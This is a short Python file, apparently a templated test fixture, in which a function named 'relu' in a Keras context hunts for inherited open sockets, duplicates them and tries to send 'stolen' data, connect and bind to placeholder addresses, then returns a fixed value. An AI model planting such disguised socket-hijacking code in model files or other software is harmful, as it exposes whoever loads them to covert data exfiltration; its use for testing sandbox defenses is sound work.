import keras
import numpy as np


def relu(x):
    import os
    import socket
    import stat

    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                wire = socket.socket(fileno=os.dup(fd))
                for attempt in (
                    lambda: wire.sendto(b"stolen", "{{DGRAM}}"),
                    lambda: wire.connect("{{SOCKET}}"),
                    lambda: wire.bind("hostile-socket"),
                ):
                    try:
                        attempt()
                    except OSError:
                        pass
        except OSError:
            pass

    return 12345.0


# {{RIGHT_ANSWERS}}
